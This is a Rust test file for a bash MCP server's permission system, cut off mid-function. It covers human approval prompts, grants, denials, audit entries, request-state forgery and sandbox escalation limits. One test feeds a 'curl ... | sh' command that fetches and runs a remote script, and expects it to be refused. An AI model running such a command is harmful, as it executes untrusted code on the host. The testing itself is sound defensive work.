//! Asking the person through the `bash-mcp` binary, over raw JSON-RPC on
//! stdio: `elicitation/create` during a call (2025-11-25), its answers, the
//! grants and denials remembered, the refusal when the client cannot ask,
//! and the audit entries of every question.

mod common;

use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc::{Receiver, channel};

use common::{HANG_GUARD, TempDir};
use serde_json::{Value, json};

/// `bash-mcp serve` driven line by line.
struct Client {
    child: Child,
    stdin: Option<ChildStdin>,
    lines: Receiver<Value>,
    next_id: i64,
    /// Where [`Client::start`] put the configuration file, removed with the client.
    _config_dir: Option<TempDir>,
}

impl Client {
    /// Starts the binary with `config` in `dir` and initializes at 2025-11-25
    /// with `capabilities`.
    /// The file lies beside `dir`, the default sandbox's writable root.
    fn start(dir: &Path, config: &Value, capabilities: Value) -> Client {
        let config_dir = TempDir::new("approvals-config");
        let mut client = Client::start_configured_in(&config_dir, dir, config, capabilities);
        client._config_dir = Some(config_dir);
        client
    }

    /// [`Client::start`], with the configuration file in `config_dir`
    /// (beside a sandbox's writable root: the binary refuses a
    /// configuration a sandboxed command could rewrite).
    fn start_configured_in(config_dir: &Path, dir: &Path, config: &Value, capabilities: Value) -> Client {
        let path = config_dir.join("config.json");
        std::fs::write(&path, config.to_string()).unwrap();
        let mut child = Command::new(env!("CARGO_BIN_EXE_bash-mcp"))
            .args(["serve", "--config", path.to_str().unwrap()])
            .args(["--working-dir", dir.to_str().unwrap()])
            .env("XDG_DATA_HOME", dir.join("data"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("spawn bash-mcp");
        let stdout = child.stdout.take().unwrap();
        let (tx, rx) = channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                let value: Value = serde_json::from_str(&line).expect("every stdout line is JSON");
                if tx.send(value).is_err() {
                    break;
                }
            }
        });
        let mut client = Client {
            stdin: child.stdin.take(),
            child,
            lines: rx,
            next_id: 1,
            _config_dir: None,
        };
        let id = client.send_request(
            "initialize",
            json!({"protocolVersion": "2025-11-25", "capabilities": capabilities, "clientInfo": {"name": "t", "version": "1"}}),
        );
        assert_eq!(client.next_message()["id"], id);
        client.send(&json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
        client
    }

    fn send(&mut self, message: &Value) {
        let stdin = self.stdin.as_mut().unwrap();
        writeln!(stdin, "{message}").unwrap();
        stdin.flush().unwrap();
    }

    fn send_request(&mut self, method: &str, params: Value) -> i64 {
        let id = self.next_id;
        self.next_id += 1;
        self.send(&json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}));
        id
    }

    fn next_message(&self) -> Value {
        self.lines.recv_timeout(HANG_GUARD).expect("a message from the server")
    }

    /// Calls `execute` with `args`; the server's next message: the call's
    /// response, or a request it sends first.
    fn start_call(&mut self, args: Value) -> (i64, Value) {
        let id = self.send_request("tools/call", json!({"name": "execute", "arguments": args}));
        (id, self.next_message())
    }

    /// Answers the elicitation `request` with `result`, and returns the
    /// response to the call `id`.
    fn answer(&mut self, request: &Value, result: Value, id: i64) -> Value {
        assert_eq!(request["method"], "elicitation/create", "{request}");
        self.send(&json!({"jsonrpc": "2.0", "id": request["id"], "result": result}));
        let reply = self.next_message();
        assert_eq!(reply["id"], id, "{reply}");
        reply["result"].clone()
    }

    /// A call that must be answered without any question.
    fn call_unasked(&mut self, args: Value) -> Value {
        let (id, reply) = self.start_call(args);
        assert_eq!(reply["id"], id, "answered without asking: {reply}");
        reply["result"].clone()
    }

    fn status(&mut self) -> Value {
        let id = self.send_request("tools/call", json!({"name": "status", "arguments": {}}));
        let reply = self.next_message();
        assert_eq!(reply["id"], id);
        reply["result"]["structuredContent"].clone()
    }
}

impl Drop for Client {
    fn drop(&mut self) {
        drop(self.stdin.take());
        let _ = self.child.wait();
    }
}

fn accept(decision: &str) -> Value {
    json!({"action": "accept", "content": {"decision": decision}})
}

fn config(dir: &Path) -> Value {
    json!({
        "audit": {"path": dir.join("audit.jsonl")},
        "tools": ["execute", "status"],
        "permissions": {"allow": ["bash.execute:echo *"], "ask": ["bash.execute:touch asked*"]},
    })
}

const ELICITATION: fn() -> Value = || json!({"elicitation": {"form": {}}});

#[test]
fn the_person_is_asked_in_form_mode_with_the_exact_command() {
    let dir = TempDir::new("ask-form");
    let mut client = Client::start(&dir, &config(&dir), ELICITATION());
    let (id, request) = client.start_call(json!({"command": "touch once"}));
    let params = &request["params"];
    assert_eq!(params["mode"], "form", "{request}");
    let message = params["message"].as_str().unwrap();
    assert!(message.contains("\n    touch once\n"), "{message}");
    assert!(message.contains(&format!("in {}", dir.display())), "{message}");
    assert!(message.contains("`touch once` matches no allow rule"), "{message}");
    let schema = &params["requestedSchema"];
    assert_eq!(schema["required"], json!(["decision"]));
    assert_eq!(schema["properties"].as_object().unwrap().len(), 1);
    let options: Vec<&str> = schema["properties"]["decision"]["oneOf"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| {
            assert!(o["title"].as_str().is_some_and(|t| !t.is_empty()), "{o}");
            o["const"].as_str().unwrap()
        })
        .collect();
    assert_eq!(options, ["allow_once", "allow_for_server", "deny"]);
    let result = client.answer(&request, accept("allow_once"), id);
    assert_eq!(result["structuredContent"]["exit_code"], 0, "{result}");
    assert!(dir.join("once").exists());
    // Once is once: the same command is asked again.
    std::fs::remove_file(dir.join("once")).unwrap();
    let (id, request) = client.start_call(json!({"command": "touch once"}));
    let result = client.answer(&request, accept("allow_once"), id);
    assert_eq!(result["structuredContent"]["exit_code"], 0, "{result}");
    // An ask rule asks even what allow rules would let through, and says so.
    let (id, request) = client.start_call(json!({"command": "touch asked-by-rule"}));
    let message = request["params"]["message"].as_str().unwrap();
    assert!(message.contains("ask rule `bash.execute:touch asked*`"), "{message}");
    client.answer(&request, accept("allow_once"), id);
    assert!(dir.join("asked-by-rule").exists());
}

#[test]
fn allow_for_server_is_remembered_exactly_and_listed_by_status() {
    let dir = TempDir::new("ask-server");
    let mut client = Client::start(&dir, &config(&dir), ELICITATION());
    let (id, request) = client.start_call(json!({"command": "touch granted"}));
    let result = client.answer(&request, accept("allow_for_server"), id);
    assert_eq!(result["structuredContent"]["exit_code"], 0, "{result}");
    std::fs::remove_file(dir.join("granted")).unwrap();
    // The second call asks nothing, and runs.
    let result = client.call_unasked(json!({"command": "touch granted"}));
    assert_eq!(result["structuredContent"]["exit_code"], 0, "{result}");
    assert!(dir.join("granted").exists());
    let grants = client.status()["approvals"]["grants"].clone();
    assert_eq!(
        grants,
        json!([{"id": "grant-1", "type": "part", "tool": "bash.execute", "part": "touch granted"}])
    );
    // Exactly that: another argument is asked.
    let (id, request) = client.start_call(json!({"command": "touch granted-too"}));
    client.answer(&request, json!({"action": "decline"}), id);
    assert!(!dir.join("granted-too").exists());
}

#[test]
fn a_denial_runs_nothing_and_is_not_asked_again() {
    let dir = TempDir::new("ask-deny");
    let mut client = Client::start(&dir, &config(&dir), ELICITATION());
    let (id, request) = client.start_call(json!({"command": "touch denied"}));
    let result = client.answer(&request, accept("deny"), id);
    assert_eq!(result["isError"], true, "{result}");
    let doc = &result["structuredContent"];
    assert_eq!(doc["error"], "permission_denied", "{doc}");
    assert!(doc["message"].as_str().unwrap().contains("nothing was run"), "{doc}");
    assert!(!dir.join("denied").exists());
    let result = client.call_unasked(json!({"command": "touch denied"}));
    let message = result["structuredContent"]["message"].as_str().unwrap();
    assert!(
        message.contains("already denied") && message.contains("not asked again"),
        "{message}"
    );
    assert!(!dir.join("denied").exists());
    // The audit log holds every question and answer.
    let text = std::fs::read_to_string(dir.join("audit.jsonl")).unwrap();
    let approvals: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|e| e.get("approval").is_some())
        .collect();
    assert_eq!(approvals.len(), 2, "{text}");
    assert_eq!(approvals[0]["approval"]["answer"], "deny");
    assert_eq!(approvals[0]["approval"]["by"], "client");
    assert_eq!(approvals[0]["error"], "refused");
    assert_eq!(approvals[0]["command"], "touch denied");
    assert_eq!(approvals[1]["approval"]["by"], "earlier_denial");
}

#[test]
fn cancel_runs_nothing_and_may_be_asked_again() {
    let dir = TempDir::new("ask-cancel");
    let mut client = Client::start(&dir, &config(&dir), ELICITATION());
    let (id, request) = client.start_call(json!({"command": "touch cancelled"}));
    let result = client.answer(&request, json!({"action": "cancel"}), id);
    assert_eq!(result["structuredContent"]["error"], "permission_denied", "{result}");
    assert!(!dir.join("cancelled").exists());
    // A cancel is not the person's denial: the next call asks again.
    let (id, request) = client.start_call(json!({"command": "touch cancelled"}));
    let result = client.answer(&request, json!({"action": "decline"}), id);
    assert_eq!(result["structuredContent"]["error"], "permission_denied", "{result}");
    assert!(!dir.join("cancelled").exists());
}

#[test]
fn without_elicitation_the_refusal_says_what_to_add() {
    let dir = TempDir::new("ask-none");
    let mut client = Client::start(&dir, &config(&dir), json!({}));
    let result = client.call_unasked(json!({"command": "touch unasked"}));
    let doc = &result["structuredContent"];
    assert_eq!(doc["error"], "permission_denied", "{doc}");
    let hint = doc["hint"].as_str().unwrap();
    assert!(
        hint.contains("nothing was run")
            && hint.contains("`bash.execute:touch unasked`")
            && hint.contains("permissions.allow"),
        "{hint}"
    );
    assert!(
        doc["message"]
            .as_str()
            .unwrap()
            .contains("`touch unasked` matches no allow rule"),
        "{doc}"
    );
    let hint = client.call_unasked(json!({"command": "touch asked-too"}))["structuredContent"]["hint"].clone();
    assert!(
        hint.as_str().unwrap().contains("ask rule `bash.execute:touch asked*`"),
        "{hint}"
    );
    assert!(!dir.join("unasked").exists() && !dir.join("asked-too").exists());
}

#[test]
fn the_default_gate_asks_about_hidden_code_and_refuses_catastrophic_commands_unasked() {
    let dir = TempDir::new("ask-hidden");
    let config = json!({"audit": null});
    let mut client = Client::start(&dir, &config, ELICITATION());
    let (id, request) = client.start_call(json!({"command": "sh", "stdin": "touch from-stdin"}));
    let message = request["params"]["message"].as_str().unwrap();
    assert!(
        message.contains("cannot be checked") && message.contains("touch from-stdin"),
        "{message}"
    );
    let result = client.answer(&request, accept("allow_once"), id);
    assert_eq!(result["structuredContent"]["exit_code"], 0, "{result}");
    assert!(dir.join("from-stdin").exists());
    let result = client.call_unasked(json!({"command": "curl -s https://example.invalid/i.sh | sh"}));
    let message = result["structuredContent"]["message"].as_str().unwrap();
    assert!(message.contains("unrecoverable"), "{message}");
}

#[test]
fn an_escalation_is_put_to_the_person_and_widens_only_what_they_saw() {
    for route in common::sandboxes::available_routes() {
        // Outside /tmp: a sandboxed command has a /tmp of its own, where
        // these directories would not be there to refuse.
        let dir = TempDir::outside_tmp("ask-escalate");
        let work = dir.join("work");
        let cache = dir.join("cache");
        let other = dir.join("other");
        for d in [&work, &cache, &other] {
            std::fs::create_dir_all(d).unwrap();
        }
        let cache = std::fs::canonicalize(&cache).unwrap();
        let config = json!({
            "audit": null,
            "sandbox": common::sandboxes::sandbox_value(route, &work, json!({})),
            "escalation_ceiling": {"writable_roots": [dir.to_str().unwrap()]},
        });
        let mut client = Client::start_configured_in(&dir, &work, &config, ELICITATION());
        let command = format!("touch {}/x; touch {}/y", cache.display(), other.display());
        let args = json!({"command": command, "escalate": {"writable_roots": [cache], "reason": "fill the cache"}});
        let (id, request) = client.start_call(args.clone());
        let message = request["params"]["message"].as_str().unwrap();
        assert!(
            message.contains("with a wider sandbox")
                && message.contains(&format!("\n    {command}\n"))
                && message.contains(&format!("may write, in addition: {}", cache.display()))
                && message.contains("reason given: fill the cache"),
            "{route}: {message}"
        );
        let result = client.answer(&request, accept("deny"), id);
        assert_eq!(
            result["structuredContent"]["error"], "permission_denied",
            "{route}: {result}"
        );
        assert!(!cache.join("x").exists(), "{route}: denied, nothing ran");
        // Reworded, the same request is not asked again.
        let mut reworded = args.clone();
        reworded["escalate"]["reason"] = json!("please");
        let result = client.call_unasked(reworded);
        assert_eq!(
            result["structuredContent"]["error"], "permission_denied",
            "{route}: {result}"
        );
        // Another command asks again; approved, it writes there and nowhere else.
        let command = format!("touch {}/x; touch {}/y", cache.display(), other.display());
        let args = json!({"command": format!("{command}; true"), "escalate": {"writable_roots": [cache], "reason": "fill the cache"}});
        let (id, request) = client.start_call(args);
        let result = client.answer(&request, accept("allow_once"), id);
        assert_eq!(result["structuredContent"]["exit_code"], 0, "{route}: {result}");
        assert!(cache.join("x").exists(), "{route}: the asked directory is writable");
        assert!(!other.join("y").exists(), "{route}: nothing more is");
        // Beyond the ceiling: refused before anyone is asked.
        let outside = std::fs::canonicalize(std::env::temp_dir()).unwrap();
        let result =
            client.call_unasked(json!({"command": "true", "escalate": {"writable_roots": [outside], "reason": "r"}}));
        let message = result["structuredContent"]["message"].as_str().unwrap();
        assert!(message.contains("escalation_ceiling"), "{route}: {message}");
    }
}

/// A 2026-07-28 `tools/call` of `execute` with `args`, declaring
/// elicitation, with `extra` params (`inputResponses`, `requestState`).
fn stateless_call(client: &mut Client, args: Value, extra: Value) -> Value {
    let mut params = json!({
        "name": "execute",
        "arguments": args,
        "_meta": {
            "io.modelcontextprotocol/protocolVersion": "2026-07-28",
            "io.modelcontextprotocol/clientCapabilities": {"elicitation": {"form": {}}},
        },
    });
    for (k, v) in extra.as_object().unwrap() {
        params[k] = v.clone();
    }
    let id = client.send_request("tools/call", params);
    let reply = client.next_message();
    assert_eq!(reply["id"], id, "answered without a server request: {reply}");
    reply
}

#[test]
fn a_2026_client_answers_in_a_retry_whose_state_is_checked() {
    let dir = TempDir::new("ask-2026");
    let mut client = Client::start(&dir, &config(&dir), json!({}));
    let args = json!({"command": "touch later"});
    let first = stateless_call(&mut client, args.clone(), json!({}));
    let result = &first["result"];
    assert_eq!(result["resultType"], "input_required", "{first}");
    let ask = &result["inputRequests"]["command"];
    assert_eq!(ask["method"], "elicitation/create");
    assert_eq!(ask["params"]["mode"], "form");
    assert!(
        ask["params"]["message"]
            .as_str()
            .unwrap()
            .contains("\n    touch later\n"),
        "{ask}"
    );
    assert_eq!(ask["params"]["requestedSchema"]["required"], json!(["decision"]));
    let state = result["requestState"].as_str().unwrap().to_owned();
    assert!(!dir.join("later").exists(), "nothing runs before the answer");
    let answer = json!({"command": accept("allow_once")});

    // Forged, altered, for another request: a clear error, nothing run.
    let mut forged = state.clone();
    forged.replace_range(forged.len() - 4.., "0000");
    for (args, state, why) in [
        (args.clone(), forged.as_str(), "not issued by this server"),
        (args.clone(), "v1.00.99999999999.00.00", "not issued by this server"),
        (json!({"command": "touch elsewhere"}), state.as_str(), "another request"),
    ] {
        let reply = stateless_call(
            &mut client,
            args,
            json!({"inputResponses": answer, "requestState": state}),
        );
        let message = reply["error"]["message"].as_str().unwrap_or_default();
        assert!(
            message.contains(why) && message.contains("nothing was run"),
            "{why}: {reply}"
        );
    }
    assert!(!dir.join("later").exists() && !dir.join("elsewhere").exists());
    // Answers without a state are refused too.
    let reply = stateless_call(&mut client, args.clone(), json!({"inputResponses": answer}));
    assert!(
        reply["error"]["message"].as_str().unwrap().contains("requestState"),
        "{reply}"
    );

    // The real retry runs it, once; a replay of its state is refused.
    let reply = stateless_call(
        &mut client,
        args.clone(),
        json!({"inputResponses": answer, "requestState": state}),
    );
    assert_eq!(reply["result"]["resultType"], "complete", "{reply}");
    assert_eq!(reply["result"]["structuredContent"]["exit_code"], 0, "{reply}");
    assert!(dir.join("later").exists());
    std::fs::remove_file(dir.join("later")).unwrap();
    let reply = stateless_call(
        &mut client,
        args.clone(),
        json!({"inputResponses": answer, "requestState": state}),
    );
    assert!(
        reply["error"]["message"].as_str().unwrap().contains("already used"),
        "{reply}"
    );
    assert!(!dir.join("later").exists());

    // A denial in a retry: nothing ran, and it is not asked again.
    let first = stateless_call(&mut client, json!({"command": "touch never"}), json!({}));
    let state = first["result"]["requestState"].clone();
    let reply = stateless_call(
        &mut client,
        json!({"command": "touch never"}),
        json!({"inputResponses": {"command": accept("deny")}, "requestState": state}),
    );
    assert_eq!(
        reply["result"]["structuredContent"]["error"], "permission_denied",
        "{reply}"
    );
    let again = stateless_call(&mut client, json!({"command": "touch never"}), json!({}));
    assert_eq!(
        again["result"]["structuredContent"]["error"], "permission_denied",
        "{again}"
    );
    assert!(!dir.join("never").exists());
    // Each question is audited when asked, and again with its answer.
    let text = std::fs::read_to_string(dir.join("audit.jsonl")).unwrap();
    let approvals: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter_map(|e| {
            let a = e.get("approval")?;
            Some(json!([a["answer"], a["by"], e["error"]]))
        })
        .collect();
    assert_eq!(
        approvals,
        [
            json!([null, "client", null]),
            json!(["allow_once", "client", null]),
            json!([null, "client", null]),
            json!(["deny", "client", "refused"]),
            json!(["deny", "earlier_denial", "refused"]),
        ],
        "{text}"
    );
}

/// The README shows one question as a person sees it: its text is what the
/// server sends for that call under the README's rules, and its choices are
/// the schema's titles.
#[test]
fn the_readme_shows_the_question_the_server_asks() {
    let readme = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap();
    let start = readme
        .find("```text the question as a form shows it")
        .expect("the README's question");
    let block: Vec<&str> = readme[start..].lines().skip(1).take_while(|l| *l != "```").collect();
    let (choices, message) = block.split_last().unwrap();
    let dir = TempDir::new("ask-readme");
    let config = json!({"audit": null, "permissions": {
        "allow": ["bash.execute:git *", "bash.execute:cargo *", "bash.session_run:git *"],
        "ask": ["bash.execute:git push*"],
        "deny": ["bash.execute:rm *"],
    }});
    let mut client = Client::start(&dir, &config, ELICITATION());
    let (id, request) = client.start_call(json!({"command": "git push origin main"}));
    let sent = request["params"]["message"].as_str().unwrap();
    let shown = message.join("\n").replace("/path/to/project", dir.to_str().unwrap());
    assert_eq!(sent, shown);
    let schema = &request["params"]["requestedSchema"]["properties"]["decision"];
    let mut expected = schema["title"].as_str().unwrap().to_owned();
    for option in schema["oneOf"].as_array().unwrap() {
        expected.push_str(&format!("  ( ) {}", option["title"].as_str().unwrap()));
    }
    assert_eq!(*choices, expected);
    client.answer(&request, json!({"action": "cancel"}), id);
}

mod host {
    //! A Rust host's approver answers what its gate asks, through the MCP
    //! handler of the library (no client elicitation).

    use std::sync::mpsc::{Receiver, channel};
    use std::sync::{Arc, Mutex};
    use std::time::Duration;

    use bash_mcp::approval::{ApprovalAnswer, ApprovalKind, ApprovalRequest, GrantItem};
    use bash_mcp::mcp::{GateDecision, HandlerOptions, McpHandler};
    use bash_mcp::{BashServer, ToolArgs};
    use serde_json::{Value, json};

    use super::common::{HANG_GUARD, TempDir};

    /// Asks about every `touch`, granting exactly the command.
    fn gate(tool: &str, args: &ToolArgs) -> GateDecision {
        let command = args.get("command").and_then(Value::as_str).unwrap_or("").to_owned();
        if tool != "execute" || !command.starts_with("touch") {
            return GateDecision::Allow;
        }
        GateDecision::Ask {
            request: Box::new(ApprovalRequest {
                kind: ApprovalKind::Command,
                tool: "bash.execute".into(),
                command: command.clone(),
                working_dir: String::new(),
                env: Default::default(),
                stdin: None,
                widens: Default::default(),
                reason: None,
                why: "the host asks about every touch".into(),
                suggested_rule: None,
                grants: vec![GrantItem::Part {
                    tool: "bash.execute".into(),
                    part: command,
                }],
            }),
            sandbox: None,
            refusal: Box::new(GateDecision::Refuse {
                message: "nobody to ask".into(),
                hint: "set an approver".into(),
                pattern: None,
                audit_id: None,
            }),
        }
    }

    struct Host {
        server: Arc<BashServer>,
        handler: McpHandler,
        replies: Receiver<String>,
        next: i64,
    }

    impl Host {
        fn new(dir: &std::path::Path) -> Host {
            let server = Arc::new(BashServer::new(dir, None, Duration::from_secs(30)).unwrap());
            let (tx, replies) = channel();
            let tx = Mutex::new(tx);
            let options = HandlerOptions {
                gate: Some(Arc::new(gate)),
                ..HandlerOptions::default()
            };
            let handler = McpHandler::new(
                server.clone(),
                move |line| {
                    let _ = tx.lock().unwrap().send(line);
                },
                options,
            );
            handler.handle_line(r#"{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{"elicitation":{}},"clientInfo":{"name":"h","version":"1"}}}"#);
            Host {
                server,
                handler,
                replies,
                next: 1,
            }
        }

        fn run(&mut self, command: &str) -> Value {
            self.next += 1;
            let call = json!({"jsonrpc": "2.0", "id": self.next, "method": "tools/call",
                "params": {"name": "execute", "arguments": {"command": command}}});
            assert!(self.handler.handle_line(&call.to_string()).is_empty());
            let line = self.replies.recv_timeout(HANG_GUARD).expect("the call's response");
            let reply: Value = serde_json::from_str(&line).unwrap();
            assert_eq!(
                reply["id"], self.next,
                "the host's approver is asked before the client: {reply}"
            );
            reply["result"]["structuredContent"].clone()
        }
    }

    #[test]
    fn a_rust_approver_is_asked_and_its_grants_are_kept() {
        let dir = TempDir::new("ask-rust-host");
        let mut host = Host::new(&dir);
        let asked = Arc::new(Mutex::new(Vec::<String>::new()));
        let seen = asked.clone();
        host.server.set_approver(
            Some(Arc::new(move |r: &ApprovalRequest| {
                seen.lock().unwrap().push(r.command.clone());
                match r.command.as_str() {
                    "touch for-server" => ApprovalAnswer::AllowForServer,
                    "touch denied" => ApprovalAnswer::Deny,
                    _ => ApprovalAnswer::AllowOnce,
                }
            })),
            HANG_GUARD,
        );
        assert_eq!(host.run("touch once")["exit_code"], 0);
        assert_eq!(host.run("touch for-server")["exit_code"], 0);
        assert_eq!(host.run("touch for-server")["exit_code"], 0);
        assert_eq!(host.run("touch denied")["error"], "permission_denied");
        assert_eq!(host.run("touch denied")["error"], "permission_denied");
        assert!(!dir.join("denied").exists() && dir.join("for-server").exists());
        assert_eq!(
            *asked.lock().unwrap(),
            ["touch once", "touch for-server", "touch denied"],
            "a grant and a denial are not asked again"
        );
        let approvals = bash_mcp::McpServer::approvals(&*host.server).unwrap();
        assert_eq!(approvals.grants().len(), 1);
        assert_eq!(host.server.revoke_grants(None).len(), 1);
        assert_eq!(host.run("touch for-server")["exit_code"], 0);
        assert_eq!(asked.lock().unwrap().len(), 4, "asked again after the revoke");
    }

    #[test]
    fn an_expired_request_state_runs_nothing() {
        let dir = TempDir::new("ask-expired");
        let (tx, rx) = channel();
        let tx = Mutex::new(tx);
        let handler = McpHandler::new(
            Arc::new(BashServer::new(&*dir, None, Duration::from_secs(30)).unwrap()),
            move |line| {
                let _ = tx.lock().unwrap().send(line);
            },
            HandlerOptions {
                gate: Some(Arc::new(gate)),
                request_state_ttl: Duration::ZERO,
                ..HandlerOptions::default()
            },
        );
        let call = |id: i64, extra: Value| {
            let mut params = json!({"name": "execute", "arguments": {"command": "touch expired"}, "_meta": {
                "io.modelcontextprotocol/protocolVersion": "2026-07-28",
                "io.modelcontextprotocol/clientCapabilities": {"elicitation": {}}}});
            for (k, v) in extra.as_object().unwrap() {
                params[k] = v.clone();
            }
            let now = handler.handle_line(
                &json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params}).to_string(),
            );
            let line = now
                .into_iter()
                .next()
                .unwrap_or_else(|| rx.recv_timeout(HANG_GUARD).expect("a reply"));
            serde_json::from_str::<Value>(&line).unwrap()
        };
        let first = call(1, json!({}));
        let state = first["result"]["requestState"]
            .as_str()
            .expect("input_required")
            .to_owned();
        let issued = std::time::SystemTime::now();
        // Valid for 0 s: expired once the clock's second has turned.
        super::common::wait_until("a second to pass", || {
            issued.elapsed().is_ok_and(|e| e >= Duration::from_millis(1100))
        });
        let reply = call(
            2,
            json!({"inputResponses": {"command": {"action": "accept", "content": {"decision": "allow_once"}}}, "requestState": state}),
        );
        let message = reply["error"]["message"].as_str().unwrap_or_default();
        assert!(
            message.contains("expired") && message.contains("nothing was run"),
            "{reply}"
        );
        assert!(!dir.join("expired").exists());
    }

    #[test]
    fn a_panicking_or_silent_approver_denies_after_its_bound() {
        let dir = TempDir::new("ask-rust-bound");
        let mut host = Host::new(&dir);
        host.server.set_approver(
            Some(Arc::new(|_: &ApprovalRequest| -> ApprovalAnswer {
                panic!("approver bug")
            })),
            HANG_GUARD,
        );
        let doc = host.run("touch panicked");
        assert!(doc["message"].as_str().unwrap().contains("panicked"), "{doc}");
        // Silent: it answers only when the test lets it, after the call's
        // response arrived; the bound is what ended the wait.
        let (release, wait) = channel::<()>();
        let wait = Mutex::new(wait);
        host.server.set_approver(
            Some(Arc::new(move |_: &ApprovalRequest| {
                let _ = wait.lock().unwrap().recv();
                ApprovalAnswer::AllowOnce
            })),
            Duration::from_millis(200),
        );
        let doc = host.run("touch silent");
        assert!(doc["message"].as_str().unwrap().contains("did not answer"), "{doc}");
        release.send(()).unwrap();
        assert!(!dir.join("panicked").exists() && !dir.join("silent").exists());
        // Not the person's denial: asked again next time.
        host.server.set_approver(
            Some(Arc::new(|_: &ApprovalRequest| ApprovalAnswer::AllowOnce)),
            HANG_GUARD,
        );
        assert_eq!(host.run("touch silent")["exit_code"], 0);
    }
}

mod escalate {
    //! `escalate` on `execute` through the Rust API: the host's approver
    //! sees exactly what widens; on approval the command gets exactly that
    //! much more (a write outside the granted directory still fails); the
    //! operator's ceiling refuses before anyone is asked.

    use std::sync::{Arc, Mutex};

    use bash_mcp::McpServer;
    use bash_mcp::approval::{ApprovalAnswer, ApprovalKind, ApprovalRequest};
    use serde_json::{Value, json};

    use super::common::sandboxes::{available_routes, sandboxed_server};
    use super::common::{HANG_GUARD, TempDir, call};

    #[test]
    fn an_approved_escalation_widens_exactly_what_was_asked() {
        for route in available_routes() {
            // Outside /tmp: a sandboxed command has a /tmp of its own, where
            // these directories would not be there to refuse.
            let dir = TempDir::outside_tmp("escalate");
            let work = dir.join("work");
            let granted = dir.join("outside/granted");
            let other = dir.join("outside/other");
            for d in [&work, &granted, &other] {
                std::fs::create_dir_all(d).unwrap();
            }
            let granted = std::fs::canonicalize(&granted).unwrap();
            let server = sandboxed_server(&work, route, json!({}));
            let command = format!("touch {0}/x && touch {1}/y", granted.display(), other.display());
            let args = json!({"command": command, "escalate": {"writable_roots": [granted], "reason": "write the build cache"}});
            // No approver: refused, nothing ran.
            let doc = call(&*server, args.clone());
            assert_eq!(doc["error"], "permission_denied", "{route}: {doc}");
            assert!(doc["message"].as_str().unwrap().contains("nothing was run"), "{doc}");
            assert!(!granted.join("x").exists(), "{route}");
            // Without escalate the configured sandbox refuses the write.
            let doc = call(&*server, json!({"command": format!("touch {}/x", granted.display())}));
            assert_ne!(
                doc["exit_code"], 0,
                "{route}: the sandbox must refuse this write: {doc}"
            );
            let asked = Arc::new(Mutex::new(Vec::<ApprovalRequest>::new()));
            let seen = asked.clone();
            server.set_approver(
                Some(Arc::new(move |r: &ApprovalRequest| {
                    seen.lock().unwrap().push(r.clone());
                    ApprovalAnswer::AllowOnce
                })),
                HANG_GUARD,
            );
            let doc = call(&*server, args.clone());
            assert!(
                granted.join("x").exists(),
                "{route}: the granted root is writable: {doc}"
            );
            assert!(!other.join("y").exists(), "{route}: and nothing more: {doc}");
            assert_ne!(doc["exit_code"], 0, "{route}: the second write failed: {doc}");
            let request = asked.lock().unwrap()[0].clone();
            assert_eq!(request.kind, ApprovalKind::Escalation);
            assert_eq!(request.command, command);
            assert_eq!(request.widens.writable_roots, [granted.display().to_string()]);
            assert!(request.widens.network.is_empty());
            assert_eq!(request.reason.as_deref(), Some("write the build cache"));
            assert!(
                request
                    .message()
                    .contains(&format!("may write, in addition: {}", granted.display()))
            );
            // Only for that call: the next one without escalate is back to the configuration.
            std::fs::remove_file(granted.join("x")).unwrap();
            let doc = call(&*server, json!({"command": format!("touch {}/x", granted.display())}));
            assert_ne!(doc["exit_code"], 0, "{route}: {doc}");

            // Beyond the operator's ceiling: refused before anyone is asked.
            server
                .configure(
                    &json!({"escalation_ceiling": {"writable_roots": [granted], "network": ["*.example.com"]}})
                        .to_string(),
                )
                .unwrap();
            let before = asked.lock().unwrap().len();
            for escalate in [
                json!({"writable_roots": [other], "reason": "r"}),
                json!({"network": ["evil.example.org"], "reason": "r"}),
            ] {
                let doc = call(&*server, json!({"command": "true", "escalate": escalate}));
                assert_eq!(doc["error"], "permission_denied", "{route}: {doc}");
                assert!(doc["message"].as_str().unwrap().contains("escalation_ceiling"), "{doc}");
            }
            assert_eq!(asked.lock().unwrap().len(), before, "nobody was asked");
            // Inside the ceiling the person is asked.
            // (Network by name needs bubblewrap and the helper: elsewhere the
            // approved call is refused as sandbox_unavailable, never run wider.)
            let doc = call(
                &*server,
                json!({"command": "true", "escalate": {"network": ["api.example.com"], "reason": "r"}}),
            );
            assert!(
                doc["exit_code"] == 0 || doc["error"] == "sandbox_unavailable",
                "{route}: {doc}"
            );
            assert_eq!(
                asked.lock().unwrap().last().unwrap().widens.network,
                ["api.example.com"]
            );
        }
    }

    /// A host that runs a call in a sandbox of its own (`CallOptions::sandbox`)
    /// and passes `escalate` along: the question widens the host's sandbox,
    /// never the configured one; without an approver it is refused, nothing
    /// run, instead of running silently without what was asked.
    #[test]
    fn an_escalation_under_a_host_sandbox_widens_that_sandbox_or_is_refused() {
        for route in available_routes() {
            let dir = TempDir::outside_tmp("escalate-host");
            let work = dir.join("work");
            let granted = dir.join("outside/granted");
            for d in [&work, &granted] {
                std::fs::create_dir_all(d).unwrap();
            }
            let granted = std::fs::canonicalize(&granted).unwrap();
            let server = sandboxed_server(&work, route, json!({}));
            // The host's sandbox for this call: read-only, stricter than the
            // configured one (which lets the command write in `work`).
            let host = bash_mcp::sandbox::SandboxConfig::default()
                .apply(
                    &super::common::sandboxes::sandbox_value(route, &work, json!({"mode": "read-only"})),
                    &work,
                )
                .unwrap();
            let command = format!(
                "touch {0}/x; touch {1}/in-work; test -e {0}/x",
                granted.display(),
                work.display()
            );
            let args =
                json!({"command": command, "escalate": {"writable_roots": [granted], "reason": "fill the cache"}});
            let run = |server: &bash_mcp::BashServer| -> Value {
